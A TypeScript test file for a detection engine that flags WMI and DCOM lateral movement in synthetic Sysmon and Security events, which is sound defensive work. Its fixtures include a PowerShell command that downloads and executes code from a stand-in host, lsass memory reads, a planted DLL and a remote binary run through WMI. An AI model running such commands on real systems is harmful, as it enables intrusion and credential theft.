import assert from 'node:assert/strict';
import { test } from 'node:test';
import { coverageOf, madeEvents } from '../../test/made-event.ts';
import { type EventModel, security, sysmon } from '../../testkit/index.ts';
import { namesFile } from './catalogue/r15.ts';
import { Engine } from './engine.ts';
import type { JudgedFinding } from './finding.ts';

const ALICE = { sid: 'S-1-5-21-1-2-3-1104', name: 'alice', domain: 'CORP' };
const SYSTEM32 = 'C:\\Windows\\System32\\';
const PRVSE = `${SYSTEM32}wbem\\WmiPrvSE.exe`;
const SCRCONS = `${SYSTEM32}wbem\\scrcons.exe`;
const SVCHOST = `${SYSTEM32}svchost.exe`;
const CMD = `${SYSTEM32}cmd.exe`;
const MMC = `${SYSTEM32}mmc.exe`;
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
const CLR = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll';
const PLANT = `${SYSTEM32}wbem\\wbemcomn.dll`;

function at(time: string): { computer: string; time: string } {
  return { computer: 'SRV-02.corp.example.com', time: `2026-03-12T${time}Z` };
}

function guid(tail: string): string {
  return `a1b2c3d4-0000-69b2-0000-${tail.padStart(12, '0')}`;
}

/** Findings of these analytics. */
function hunt(models: readonly EventModel[], ...ids: readonly string[]): readonly JudgedFinding[] {
  const events = madeEvents(models);
  const engine = new Engine({ coverage: coverageOf(events) });
  for (const event of events) engine.accept(event);
  return engine.finish().judged.filter(({ finding }) => ids.includes(finding.analytic));
}

function brief(findings: readonly JudgedFinding[]): string[] {
  return findings.map(({ finding }) => `${finding.analytic} ${finding.scope} ${finding.level} ${finding.title}`);
}

function only(findings: readonly JudgedFinding[]): JudgedFinding {
  const [finding] = findings;
  assert.ok(finding !== undefined && findings.length === 1, `${findings.length} findings`);
  return finding;
}

function eventIds({ finding }: JudgedFinding): number[] {
  return finding.evidence.flatMap(({ eventId }) => eventId ?? []);
}

function logon(
  over: { type?: number; address?: string; port?: number; time?: string; logonId?: bigint } = {},
): EventModel {
  const { type = 3, address = '10.0.0.7', port = 50001, time = '09:00:00.1000000', logonId = 0xa1n } = over;
  return security.logon({ account: ALICE, logonId, type, address, port }, at(time));
}

function start(pid: number, image: string, time: string, over: Partial<sysmon.ProcessStart> = {}): EventModel {
  return sysmon.process(
    {
      pid,
      image,
      user: 'CORP\\alice',
      logonId: 0xa1n,
      parentPid: 2760,
      parentImage: PRVSE,
      guid: guid(String(pid)),
      ...over,
    },
    at(time),
  );
}

function connected(pid: number, image: string, time: string, over: { to?: string; own?: string } = {}): EventModel {
  const { to = '203.0.113.5', own = '10.0.0.20' } = over;
  return sysmon.event(
    3,
    {
      ProcessGuid: guid(String(pid)),
      ProcessId: pid,
      Image: image,
      Protocol: 'tcp',
      Initiated: true,
      SourceIp: own,
      SourcePort: 50100,
      DestinationIp: to,
      DestinationPort: 443,
    },
    at(time),
  );
}

/** A connection from another machine to a program of this one. */
function called(pid: number, image: string, time: string, over: { from?: string; port?: number } = {}): EventModel {
  const { from = '10.0.0.7', port = 50002 } = over;
  return sysmon.event(
    3,
    {
      ProcessGuid: guid(String(pid)),
      ProcessId: pid,
      Image: image,
      Protocol: 'tcp',
      Initiated: false,
      SourceIp: from,
      SourcePort: port,
      DestinationIp: '10.0.0.20',
      DestinationPort: 49913,
    },
    at(time),
  );
}

function lsassRead(pid: number, image: string, time: string, rights = 0x1410): EventModel {
  return sysmon.event(
    10,
    {
      SourceProcessGUID: guid(String(pid)),
      SourceProcessId: pid,
      SourceImage: image,
      TargetImage: `${SYSTEM32}lsass.exe`,
      GrantedAccess: rights,
      CallTrace: `${SYSTEM32}ntdll.dll+9d8e4`,
    },
    at(time),
  );
}

function shareWrite(
  share: string,
  name: string,
  time: string,
  over: { address?: string; mask?: number } = {},
): EventModel {
  return security.event(
    5145,
    {
      ...security.subject(ALICE, 0xb1n),
      ObjectType: 'File',
      IpAddress: over.address ?? '10.0.0.7',
      IpPort: '50010',
      ShareName: `\\\\*\\${share}`,
      RelativeTargetName: name,
      AccessMask: over.mask ?? 0x17019f,
    },
    at(time),
  );
}

test('M01: a process below a child of WMI that reads lsass is critical, by ProcessGuid (J22)', () => {
  const models = [
    logon(),
    start(100, CMD, '09:00:00.2000000', { commandLine: 'cmd /c t.exe' }),
    start(200, 'C:\\Users\\Public\\t.exe', '09:00:01.2000000', {
      parentPid: 100,
      parentImage: CMD,
      parentGuid: guid('100'),
    }),
    lsassRead(200, 'C:\\Users\\Public\\t.exe', '09:00:02.2000000'),
  ];
  const found = only(hunt(models, 'M01'));
  assert.deepEqual(brief([found]), [
    'M01 lateral critical t.exe as CORP\\alice, below what WMI started on SRV-02, opened lsass.exe to read its memory',
  ]);
  assert.deepEqual(eventIds(found), [1, 10]);
  assert.deepEqual(
    found.joins.map(({ join, strength }) => `${join} ${strength}`),
    ['J22 exact'],
  );
  const [own] = found.glue.processes;
  assert.deepEqual(
    [own?.key, own?.ancestors].flat().map((key) => key?.split('\u0000').at(-1)),
    [guid('200'), guid('100')],
  );
});

test('M01: the same access by a process that WMI did not start, or with rights that read no memory, is none', () => {
  const other = start(300, 'C:\\x\\t.exe', '09:00:01.2000000', { parentImage: CMD, parentGuid: guid('9') });
  assert.deepEqual(hunt([other, lsassRead(300, 'C:\\x\\t.exe', '09:00:02.2000000')], 'M01'), []);
  const child = start(100, CMD, '09:00:00.2000000');
  assert.deepEqual(hunt([child, lsassRead(100, CMD, '09:00:02.2000000', 0x1000)], 'M01'), []);
});

test('N02: a child of WMI that connects outside within ten minutes is high and names where (J22)', () => {
  const lookup = sysmon.event(
    22,
    {
      ProcessGuid: guid('100'),
      ProcessId: 100,
      Image: POWERSHELL,
      QueryName: 'c2.example.net',
      QueryResults: '::ffff:203.0.113.5;',
    },
    at('09:00:02.0000001'),
  );
  const found = only(
    hunt(
      [logon(), start(100, POWERSHELL, '09:00:00.2000000'), lookup, connected(100, POWERSHELL, '09:00:02.6000000')],
      'N02',
    ),
  );
  assert.deepEqual(brief([found]), [
    'N02 lateral high powershell.exe as CORP\\alice on SRV-02, which WMI started, connected to 203.0.113.5:443 (c2.example.net)',
  ]);
  assert.equal(found.finding.terms[0]?.text, 'external connection 2.4 s after its start');
  assert.deepEqual(eventIds(found), [1, 3]);
});

test('N02: a connection to a host in evidence, in the same private range, or later, is none', () => {
  const other = (to: string, time: string): string[] =>
    brief(hunt([start(100, POWERSHELL, '09:00:00.2000000'), connected(100, POWERSHELL, time, { to })], 'N02'));
  assert.deepEqual(other('10.9.9.9', '09:00:02.6000000'), []);
  assert.deepEqual(other('127.0.0.1', '09:00:02.6000000'), []);
  assert.deepEqual(other('203.0.113.5', '09:11:00.6000000'), []);
  assert.equal(other('172.16.5.5', '09:00:02.6000000').length, 1);
});

test('S01: the text of a process is low, medium or high at 10, 25 and 40 points (C14)', () => {
  const levels = [
    'cmd.exe /c C:\\Users\\Public\\a.exe',
    'powershell.exe -enc ZQBjAGgAbwA=',
    'powershell.exe -nop -w hidden -c "iex (New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a\')"',
  ].map((commandLine) => {
    const { finding } = only(hunt([start(100, CMD, '09:00:00.2000000', { commandLine })], 'S01'));
    return [finding.level, finding.score, finding.terms.length];
  });
  assert.deepEqual(levels, [
    ['low', 20, 1],
    ['medium', 40, 1],
    ['high', 65, 1],
  ]);
});

test('S01: a text under 10 points, or below a process that WMI did not start, is none', () => {
  const line = 'powershell.exe -enc ZQBjAGgAbwA=';
  assert.deepEqual(
    hunt([start(100, `${SYSTEM32}notepad.exe`, '09:00:00.2000000', { commandLine: 'notepad' })], 'S01'),
    [],
  );
  assert.deepEqual(
    hunt([start(100, POWERSHELL, '09:00:00.2000000', { commandLine: line, parentImage: CMD })], 'S01'),
    [],
  );
});

test('S06: a script host that connects or loads .NET is high, and names it, also where its start is in no log', () => {
  const by = { ProcessGuid: guid('972'), ProcessId: 972, Image: SCRCONS };
  const begun = start(972, SCRCONS, '09:00:00.2000000', {
    parentImage: SVCHOST,
    user: 'NT AUTHORITY\\SYSTEM',
    logonId: 0x3e7n,
  });
  const load = sysmon.event(7, { ...by, ImageLoaded: CLR }, at('09:00:00.5000000'));
  const network = connected(972, SCRCONS, '09:00:02.5000000');
  assert.deepEqual(brief(hunt([begun, load], 'S06')), [
    'S06 wmi high A script consumer ran on SRV-02; it loaded the .NET runtime; its subscription is not in the logs',
  ]);
  const seen = only(hunt([begun, load, network], 'S06'));
  assert.deepEqual(eventIds(seen), [1, 3, 7]);
  assert.deepEqual(
    seen.joins.map(({ join }) => join),
    ['J22'],
  );
  const unseen = only(hunt([load, network], 'S06'));
  assert.deepEqual(brief([unseen]), [
    'S06 wmi high A script consumer ran on SRV-02; it connected to 203.0.113.5:443 and loaded the .NET runtime; its start is not in the logs',
  ]);
  assert.deepEqual(eventIds(unseen), [3, 7]);
});

test('S06: wshom.ocx and the pipe \\lsass, which every script host has, do not make it high', () => {
  const by = { ProcessGuid: guid('972'), ProcessId: 972, Image: SCRCONS };
  const begun = start(972, SCRCONS, '09:00:00.2000000', { parentImage: SVCHOST });
  const load = sysmon.event(7, { ...by, ImageLoaded: `${SYSTEM32}wshom.ocx` }, at('09:00:00.5000000'));
  assert.deepEqual(brief(hunt([begun, load], 'S06')), [
    'S06 wmi medium A script consumer ran on SRV-02; it loaded wshom.ocx; its subscription is not in the logs',
  ]);
});

test('S10: a planted wbemcomn.dll that WmiPrvSE loads is one critical finding with its writer and its child', () => {
  const found = only(
    hunt(
      [
        logon({ logonId: 0xb1n, port: 50010, time: '08:59:00.1000000' }),
        shareWrite('C$', 'Windows\\System32\\wbem\\wbemcomn.dll', '08:59:30.0000000'),
        sysmon.event(11, { ProcessId: 4, Image: 'System', TargetFilename: PLANT }, at('08:59:30.2000000')),
        sysmon.event(
          7,
          { ProcessGuid: guid('50'), ProcessId: 50, Image: PRVSE, ImageLoaded: PLANT },
          at('09:00:00.1000000'),
        ),
        start(100, `${SYSTEM32}notepad.exe`, '09:00:00.2000000', {
          parentPid: 50,
          parentGuid: guid('50'),
          logonId: 0x3e4n,
        }),
        start(101, CMD, '09:00:00.3000000', { parentPid: 51, parentGuid: guid('51') }),
      ],
      'S10',
    ),
  );
  assert.deepEqual(brief([found]), [
    'S10 wmi critical CORP\\alice from 10.0.0.7 planted wbemcomn.dll beside WmiPrvSE.exe on SRV-02; WmiPrvSE.exe loaded it and started notepad.exe',
  ]);
  assert.deepEqual(eventIds(found), [5145, 11, 7, 1]);
  assert.equal(found.finding.count, 3);
  assert.deepEqual(
    [found.hop?.method, found.hop?.account, found.hop?.sources[0]?.address],
    ['smb', 'CORP\\alice', '10.0.0.7'],
  );
  const keys = found.glue.processes.map(({ key }) => key.split('\u0000').at(-1));
  assert.deepEqual(keys, [guid('50'), guid('100')]);
  assert.deepEqual(found.glue.accounts, [ALICE.sid]);
});

test('S10: the true wbemcomn.dll, a read of it, and TrustedInstaller are none', () => {
  const models = [
    shareWrite('C$', 'Windows\\System32\\wbem\\wbemcomn.dll', '08:59:30.0000000', { mask: 0x120089 }),
    sysmon.event(7, { ProcessId: 50, Image: PRVSE, ImageLoaded: `${SYSTEM32}wbemcomn.dll` }, at('09:00:00.1000000')),
    sysmon.event(
      11,
      { ProcessId: 7, Image: 'C:\\Windows\\servicing\\TrustedInstaller.exe', TargetFilename: PLANT },
      at('09:00:00.2000000'),
    ),
    sysmon.event(
      11,
      { ProcessId: 7, Image: 'C:\\x\\a.exe', TargetFilename: 'D:\\x\\wbem\\wbemcomn.dll' },
      at('09:00:00.3000000'),
    ),
  ];
  assert.deepEqual(hunt(models, 'S10'), []);
});

test('R15: a file written to ADMIN$ and run through WMI within ten minutes is critical, with its source', () => {
  const found = only(
    hunt(
      [
        shareWrite('ADMIN$', 'Temp\\evil.exe', '08:55:00.0000000'),
        logon(),
        start(100, CMD, '09:00:00.2000000', { commandLine: 'cmd.exe /c C:\\Windows\\Temp\\evil.exe -x' }),
      ],
      'R15',
    ),
  );
  assert.deepEqual(brief([found]), [
    'R15 wmi critical CORP\\alice from 10.0.0.7 copied evil.exe to SRV-02 and ran it there through WMI (cmd.exe)',
  ]);
  assert.deepEqual(eventIds(found), [1, 5145]);
  assert.equal(found.hop?.method, 'smb');
});

test('R15: a file that the machine wrote to itself, a read, another name, or eleven minutes are none', () => {
  const run = (write: EventModel, commandLine = 'cmd.exe /c C:\\Windows\\Temp\\evil.exe'): number =>
    hunt([write, logon(), start(100, CMD, '09:00:00.2000000', { commandLine })], 'R15').length;
  assert.deepEqual(
    [
      run(shareWrite('ADMIN$', 'Temp\\evil.exe', '08:55:00.0000000')),
      run(shareWrite('ADMIN$', 'Temp\\evil.exe', '08:55:00.0000000', { address: '127.0.0.1' })),
      run(shareWrite('ADMIN$', 'Temp\\evil.exe', '08:55:00.0000000', { mask: 0x120089 })),
      run(shareWrite('ADMIN$', 'Temp\\other.exe', '08:55:00.0000000')),
      run(shareWrite('ADMIN$', 'Temp\\evil.exe', '08:49:00.0000000')),
      run(
        shareWrite('ADMIN$', '__1556656511.61', '08:55:00.0000000'),
        'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1556656511.61 2>&1',
      ),
    ],
    [1, 0, 0, 0, 0, 0],
  );
});

test('R15: a command names a file by its path where it tells one, else by its name', () => {
  const path = '\\windows\\temp\\evil.exe';
  const named = [
    'evil.exe',
    'cmd /c "C:\\Windows\\Temp\\evil.exe" -x',
    'cmd /c %windir%\\Temp\\evil.exe',
    'cmd /c C:\\\\Windows\\\\Temp\\\\evil.exe',
    'cmd /c \\\\127.0.0.1\\ADMIN$\\Temp\\evil.exe',
    'cmd /c start temp\\EVIL.EXE',
  ];
  const other = [
    'C:\\Windows\\System32\\evil.exe',
    'notevil.exe',
    'evil.exe.bak',
    'evil',
    '\\\\10.0.0.9\\share\\evil.exe',
  ];
  assert.deepEqual(
    named.filter((line) => !namesFile(line, path)),
    [],
  );
  assert.deepEqual(
    other.filter((line) => namesFile(line, path)),
    [],
  );
});

test('R07: mmc.exe -Embedding under the logon of a remote caller, with children, is high and a hop over DCOM', () => {
  const mmc = start(100, MMC, '09:00:00.2000000', { parentImage: SVCHOST, commandLine: `${MMC} -Embedding` });
  const child = (pid: number, time: string): EventModel =>
    start(pid, CMD, time, {
      parentPid: 100,
      parentGuid: guid('100'),
      parentImage: MMC,
      commandLine: 'cmd.exe /c whoami',
    });
  const found = only(hunt([logon(), mmc, child(200, '09:00:01.2000000'), child(201, '09:00:02.2000000')], 'R07'));
  assert.deepEqual(brief([found]), [
    'R07 lateral high CORP\\alice from 10.0.0.7 started cmd.exe and 1 more on SRV-02 through mmc.exe (DCOM)',
  ]);
  assert.deepEqual(
    [found.finding.count, found.hop?.method, found.hop?.caller[0]?.join, found.hop?.caller[0]?.strength],
    [2, 'dcom', 'J1', 'exact'],
  );
  assert.deepEqual(eventIds(found), [1, 4624, 1, 1]);
  assert.equal(found.glue.logons.length, 1);
});

test('R07: without the 4624 a connection from another machine to the COM server stands for it, at most medium', () => {
  const mmc = start(100, MMC, '09:00:00.2000000', { parentImage: SVCHOST, commandLine: `${MMC} -Embedding` });
  const child = start(200, CMD, '09:00:01.2000000', {
    parentPid: 100,
    parentGuid: guid('100'),
    parentImage: MMC,
    commandLine: 'cmd',
  });
  assert.deepEqual(hunt([mmc, child], 'R07'), []);
  assert.equal(only(hunt([mmc, called(100, MMC, '09:00:01.1000000'), child], 'R07')).finding.terms[0]?.points, 40);
});

test('R07: a child of explorer.exe just after a connection from a logged-on machine is high', () => {
  const explorer = 'C:\\Windows\\explorer.exe';
  const child = start(200, CMD, '09:00:02.2000000', {
    parentPid: 900,
    parentGuid: guid('900'),
    parentImage: explorer,
    logonId: 0xc1n,
    commandLine: 'cmd.exe /c whoami',
  });
  const call = called(900, explorer, '09:00:02.1000000', { port: 50001 });
  assert.deepEqual(brief(hunt([logon(), call, child], 'R07')), [
    'R07 lateral high CORP\\alice from 10.0.0.7 started cmd.exe on SRV-02 through explorer.exe (DCOM)',
  ]);
  assert.deepEqual(hunt([logon(), called(900, explorer, '09:00:02.1000000', { port: 50009 }), child], 'R07'), []);
});

test('R07: mmc.exe of a person at the machine, and explorer.exe without a call, are none', () => {
  const mmc = start(100, MMC, '09:00:00.2000000', { parentImage: SVCHOST, commandLine: `${MMC} -Embedding` });
  const child = start(200, CMD, '09:00:01.2000000', { parentPid: 100, parentGuid: guid('100'), parentImage: MMC });
  assert.deepEqual(
    hunt([logon({ type: 2, address: '-' }), mmc, called(100, MMC, '09:00:01.1000000'), child], 'R07'),
    [],
  );
  assert.deepEqual(
    hunt([logon(), start(300, CMD, '09:00:02.2000000', { parentImage: 'C:\\Windows\\explorer.exe' })], 'R07'),
    [],
  );
});

test('C20: SYSTEM, machine accounts and the sessions of services glue nothing', () => {
  const child = start(100, POWERSHELL, '09:00:00.2000000', {
    user: 'NT AUTHORITY\\SYSTEM',
    logonId: 0x3e7n,
    commandLine: 'powershell.exe -enc ZQBjAGgAbwA=',
  });
  const { glue } = only(hunt([child], 'S01'));
  assert.deepEqual([glue.logons, glue.accounts, glue.processes.length], [[], [], 1]);
});
